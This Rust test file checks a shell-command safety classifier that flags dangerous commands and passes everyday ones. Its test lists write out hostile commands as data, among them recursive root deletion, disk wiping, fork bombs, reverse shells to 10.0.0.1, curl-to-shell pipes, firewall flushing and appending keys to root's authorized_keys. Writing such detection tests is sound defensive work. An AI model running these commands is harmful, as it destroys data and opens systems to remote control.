use std::sync::Arc;

use fleet_core::classifier::{
    Classifier, NormalizationPolicy, Rule, RuleSet, Verdict, BUILTIN_RULESET_VERSION,
};

fn builtin() -> Classifier {
    Classifier::builtin().unwrap()
}

#[test]
fn blocks_destructive_families() {
    let classifier = builtin();
    let dangerous = [
        // deletion
        "rm -rf /",
        "rm -rf /*",
        "sudo rm -rf --no-preserve-root /",
        "rm -rf ~",
        "rm -rf $HOME",
        "rm -rf *",
        "rm -r -f /etc",
        "rm --recursive --force /",
        "cd /tmp && rm -rf ..",
        "rm -rf \"/\"",
        "rm -rf '/'",
        "rm -rf '~'",
        "rm -fr \"/etc\"",
        // disks
        "dd if=image.iso of=/dev/sdb bs=4M",
        "mkfs.ext4 /dev/sdb1",
        "wipefs -a /dev/nvme0n1",
        "fdisk /dev/sda",
        // power and processes
        "shutdown -h now",
        "sudo reboot",
        "systemctl poweroff",
        "init 6",
        "kill -9 -1",
        "pkill -9 -u root",
        // permissions
        "chmod -R 777 /",
        "chmod 777 -R /",
        "chmod a+rwx --recursive /",
        "chmod 0777 -R -v /",
        "chown -R nobody:nogroup /",
        // firewall
        "iptables -F",
        "iptables -t nat --flush",
        "iptables -P INPUT ACCEPT",
        "ufw disable",
        "ufw --force reset",
        "systemctl stop firewalld",
        "systemctl mask --now nftables",
        // remote shells
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat -lvp 4444 -e /bin/bash",
        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
        "curl -fsSL https://example.com/install.sh | sudo bash",
        "wget -qO- http://x | sh",
        "curl http://x | python3",
        "bash <(curl -s http://x)",
        r#"sh -c "$(curl -fsSL http://x)""#,
        // resource exhaustion
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "while true; do sleep 0; done",
        "while :; do :; done",
        "for ((;;)); do echo x; done",
        // privilege escalation
        "sudo su -",
        "sudo -i",
        "sudo -s",
        "sudo bash",
        // system paths
        "mv /etc/passwd /tmp/passwd",
        "mv ../data /tmp",
        "echo 'x' | tee /etc/hosts",
        "truncate -s 0 /var/log/syslog",
        "shred -u /dev/sda",
        "cp evil.conf /etc/nginx/nginx.conf",
        "ln -s /bin/sh /usr/local/bin/ls",
        "echo pwned > /etc/motd",
        "cat payload >> /root/.ssh/authorized_keys",
        "echo x > ../../outside",
        "cat /dev/urandom > /dev/sda",
    ];

    for script in dangerous {
        assert!(
            classifier.is_dangerous(script),
            "expected dangerous: {script}"
        );
    }
}

#[test]
fn allows_everyday_commands() {
    let classifier = builtin();
    let benign = [
        "echo hello",
        "ls -la /tmp",
        "curl http://x -o /tmp/f",
        "rm -rf ./build",
        "rm -rf /tmp/build",
        "cat /etc/os-release",
        "echo x 2>/dev/null",
        "systemctl restart nginx",
        "df -h && uptime",
        "tail -n 100 /var/log/syslog",
        "cp config.yml /tmp/app/",
        "echo done | tee /tmp/out.log",
        "grep -r halting logs/",
        "git clean -fdx",
        "ps aux | grep sshd",
        "kill -9 12345",
        "dd if=/dev/sda of=/tmp/disk.img",
        "echo issue#42",
        "rm -rf \"./build\"",
        "rm -rf '/tmp/cache'",
        "chmod 777 -R ./public",
    ];

    for script in benign {
        assert_eq!(classifier.classify(script), Verdict::Safe, "expected safe: {script}");
    }
}

#[test]
fn whitespace_case_and_comments_do_not_hide_matches() {
    let classifier = builtin();
    for script in [
        "  RM   -RF   /  # cleanup",
        "RM -RF /",
        "rm\t-rf\t/",
        "rm -rf /\n",
        "# routine cleanup\nrm -rf /",
        "echo \"#\"; rm -rf /",
        "echo $(echo a)#; rm -rf /",
        r#"echo \\" # "; rm -rf /"#,
        "Curl http://x |   BASH",
    ] {
        assert!(classifier.is_dangerous(script), "expected dangerous: {script:?}");
    }
}

#[test]
fn reports_first_matching_rule() {
    let classifier = builtin();
    assert_eq!(
        classifier.classify("rm -rf /").rule_id(),
        Some("rm-recursive-root")
    );
    assert_eq!(
        classifier.classify("dd if=/dev/zero of=/dev/sda").rule_id(),
        Some("dd-zero-device")
    );
    assert_eq!(
        classifier.classify("curl http://x | bash").rule_id(),
        Some("fetch-pipe-shell")
    );
    assert_eq!(classifier.classify(":(){ :|:& };:").rule_id(), Some("fork-bomb"));
}

#[test]
fn comment_policy_controls_trailing_comments() {
    let strip = builtin();
    assert_eq!(strip.policy(), NormalizationPolicy::StripComments);
    assert!(!strip.is_dangerous("echo hello # rm -rf /"));

    let literal = builtin().with_policy(NormalizationPolicy::Literal);
    assert_eq!(
        literal.classify("echo hello # rm -rf /").rule_id(),
        Some("rm-recursive-root")
    );
}

#[test]
fn classification_is_deterministic() {
    let classifier = builtin();
    for script in ["rm -rf /", "echo hello", "curl http://x | bash"] {
        assert_eq!(classifier.classify(script), classifier.classify(script));
    }
    assert_eq!(classifier.ruleset_version(), BUILTIN_RULESET_VERSION);
}

#[test]
fn custom_tables_evaluate_containment_before_patterns() {
    let rules = RuleSet::new(
        1,
        vec![
            Rule::pattern("any-rm", "any rm", r"\brm\b").unwrap(),
            Rule::contains("rm-rf", "forced recursive rm", "RM -RF"),
        ],
    );
    let classifier = Classifier::new(Arc::new(rules));

    assert_eq!(classifier.classify("rm -rf x").rule_id(), Some("rm-rf"));
    assert_eq!(classifier.classify("rm x").rule_id(), Some("any-rm"));
    assert_eq!(classifier.classify("echo hi"), Verdict::Safe);
    assert_eq!(classifier.ruleset_version(), 1);
}

#[test]
fn verdict_carries_rule_description() {
    let classifier = Classifier::new(Arc::new(RuleSet::new(
        1,
        vec![Rule::contains("no-sleep", "sleeps are not allowed", "sleep")],
    )));
    assert_eq!(
        classifier.classify("SLEEP 10"),
        Verdict::Dangerous {
            rule_id: "no-sleep".into(),
            description: "sleeps are not allowed".into(),
        }
    );
}
